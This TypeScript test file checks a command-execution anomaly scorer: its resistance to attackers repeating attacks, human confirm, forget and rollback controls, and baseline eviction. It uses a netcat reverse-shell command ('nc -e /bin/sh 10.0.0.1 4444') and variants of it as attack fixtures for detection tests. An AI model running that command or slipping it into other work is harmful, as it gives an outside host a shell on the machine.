import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import fc from 'fast-check';

import { ExecutionScorer } from '../score/execution-scorer.ts';
import { shapeOf } from '../shape/shape-of.ts';
import { establishedScorer } from '../testing/established-scorer.ts';
import { DAY_MS, DAY_ONE_MS, makeEvent } from '../testing/make-event.ts';
import { Baseline } from './baseline.ts';
import type { Lesson } from './observe-shape.ts';
import type { ShapeRecord } from './shape-record.ts';
import { admitShape, confirmShape, expireBefore, forgetShape, rollBack } from './revisions.ts';

const HAND = { by: 'ops', timeMs: DAY_ONE_MS };
const ATTACK = makeEvent('nc -e /bin/sh 10.0.0.1 4444');

function baselineOf(scorer: ExecutionScorer): Baseline {
  const baseline = scorer.workload('web')?.baseline;
  assert.ok(baseline !== undefined);
  return baseline;
}

describe('an attacker who teaches', () => {
  test('is not believed for repeating an attack ten thousand times in a day', () => {
    const scorer = establishedScorer();
    const before = scorer.score(ATTACK).score;
    for (let time = 0; time < 10_000; time += 1)
      scorer.observe({ ...ATTACK, t: DAY_ONE_MS + time });
    assert.equal(scorer.score(ATTACK).score, before);
  });

  test('gains nothing by many variants that share what matters', () => {
    const scorer = establishedScorer({ alertScore: () => 1 });
    const before = scorer.score(ATTACK).score;
    for (let time = 0; time < 500; time += 1)
      scorer.observe(makeEvent(`nc -e /bin/sh 10.0.0.${time % 250} ${time} x${time}`));
    const after = scorer.score(ATTACK).score;
    assert.ok(after > before * 0.8, `${before} to ${after}`);
  });

  test('is not helped by the alerts that it makes: they count a few times a day', () => {
    const scorer = establishedScorer();
    for (let time = 0; time < 5_000; time += 1) scorer.observe({ ...ATTACK, t: DAY_ONE_MS + time });
    assert.ok(scorer.score(ATTACK).p < 0.05);
  });
});

describe('a person', () => {
  test('confirms what is normal, and forgets it again', () => {
    const scorer = establishedScorer();
    scorer.observe(ATTACK);
    const { key } = shapeOf(ATTACK);
    assert.ok(confirmShape(baselineOf(scorer), key, HAND));
    assert.ok(scorer.score(ATTACK).score < 0.05);
    assert.ok(forgetShape(baselineOf(scorer), key, HAND));
    assert.ok(scorer.score(ATTACK).score > 0.9);
    const changes = baselineOf(scorer)
      .toState()
      .changes.map(({ what, by }) => [what, by]);
    assert.deepEqual(changes, [
      ['learning-ended', 'bound'],
      ['confirmed', 'ops'],
      ['forgotten', 'ops'],
    ]);
  });

  test('lets an alerted shape train, which then takes as long as for any other', () => {
    const scorer = establishedScorer();
    const before = scorer.observe(ATTACK).score;
    assert.ok(admitShape(baselineOf(scorer), shapeOf(ATTACK).key, HAND));
    const after = scorer.score(ATTACK).score;
    assert.ok(after < before && after > 0.7, `${before} to ${after}`);
    assert.equal(admitShape(baselineOf(scorer), shapeOf(ATTACK).key, HAND), false);
    const next = { ...ATTACK, t: DAY_ONE_MS + DAY_MS };
    assert.equal(scorer.observe(next).lesson, 'watched');
    assert.ok(scorer.score(ATTACK).score < after);
  });

  test('rolls back to a day: everything learned since is gone', () => {
    const scorer = establishedScorer();
    const before = baselineOf(scorer).toState().shapes;
    for (let day = 0; day < 5; day += 1)
      scorer.observe(makeEvent('make -C /srv/app', { t: DAY_ONE_MS + day * DAY_MS }));
    assert.equal(rollBack(baselineOf(scorer), DAY_ONE_MS, HAND), 1);
    assert.deepEqual(baselineOf(scorer).toState().shapes, before);
  });
});

describe('a baseline', () => {
  test('is bounded, counts what it gave up, and gives up what it believes least', () => {
    const baseline = new Baseline(undefined, { shapesMax: 64 });
    const see = (command: string, lesson: Lesson, timeMs: number): void => {
      baseline.observe({ shape: shapeOf(makeEvent(command)), host: 'web-1', timeMs, lesson });
    };
    for (let time = 0; time < 20; time += 1) see('sleep 1', 'learned', DAY_ONE_MS);
    for (let at = 0; at < 1_000; at += 1)
      see(`tool-${'a'.repeat(at % 90)} ${'b'.repeat(at % 89)}`, 'held', DAY_ONE_MS + at);
    assert.ok(baseline.size <= 64);
    assert.ok(baseline.evicted > 500);
    assert.ok(baseline.find(shapeOf(makeEvent('sleep 1')).key) !== undefined);
  });

  test('is as its shapes say, also when an old day leaves a shape', () => {
    const scorer = establishedScorer();
    const seen = (day: number, command = 'make -C /srv/app'): void =>
      void scorer.observe(makeEvent(command, { t: DAY_ONE_MS + day * DAY_MS }));
    for (let day = 0; day < 8; day += 1) seen(day);
    for (let time = 0; time < 5; time += 1) seen(7);
    seen(12);
    const restored = new ExecutionScorer({}, scorer.toState());
    const event = makeEvent('make -C /srv/other');
    assert.deepEqual(restored.score(event), scorer.score(event));
  });

  test('forgets days that are over, but not what a person confirmed', () => {
    const scorer = establishedScorer();
    const { key } = shapeOf(makeEvent('sleep 30'));
    confirmShape(baselineOf(scorer), key, HAND);
    expireBefore(baselineOf(scorer), DAY_ONE_MS + DAY_MS, DAY_ONE_MS + DAY_MS);
    assert.deepEqual(
      [...baselineOf(scorer).shapes].map((record) => record.key),
      [key],
    );
  });
});

describe('what changed in a baseline', () => {
  test('is all that somebody who keeps a copy needs', () => {
    const step = fc.oneof(
      fc.record({ do: fc.constant('see' as const), at: fc.nat({ max: 30 }), day: fc.nat(12) }),
      fc.record({ do: fc.constantFrom('confirm' as const, 'forget' as const), at: fc.nat(30) }),
      fc.record({ do: fc.constantFrom('expire' as const, 'roll-back' as const), day: fc.nat(12) }),
      fc.record({ do: fc.constant('take' as const) }),
    );
    fc.assert(
      fc.property(fc.array(step, { maxLength: 80 }), (steps) => {
        const baseline = new Baseline(undefined, { shapesMax: 12 });
        const copy = new Map<string, ShapeRecord>();
        const take = (): void => {
          const { changed, removed } = baseline.takeChanges();
          for (const record of changed) copy.set(record.key, record);
          for (const key of removed) assert.ok(copy.delete(key));
        };
        for (const one of steps) {
          const shape = shapeOf(makeEvent(`tool-${'x'.repeat('at' in one ? one.at : 0)}`));
          const timeMs = DAY_ONE_MS + ('day' in one ? one.day : 0) * DAY_MS;
          if (one.do === 'see')
            baseline.observe({ shape, host: 'web-1', timeMs, lesson: 'watched' });
          else if (one.do === 'confirm') confirmShape(baseline, shape.key, HAND);
          else if (one.do === 'forget') forgetShape(baseline, shape.key, HAND);
          else if (one.do === 'expire') expireBefore(baseline, timeMs, timeMs);
          else if (one.do === 'roll-back') rollBack(baseline, timeMs, HAND);
          else take();
        }
        take();
        const shapes = [...copy.values()].toSorted((a, b) => (a.key < b.key ? -1 : 1));
        assert.deepEqual(shapes, baseline.toState().shapes);
      }),
    );
  });
});
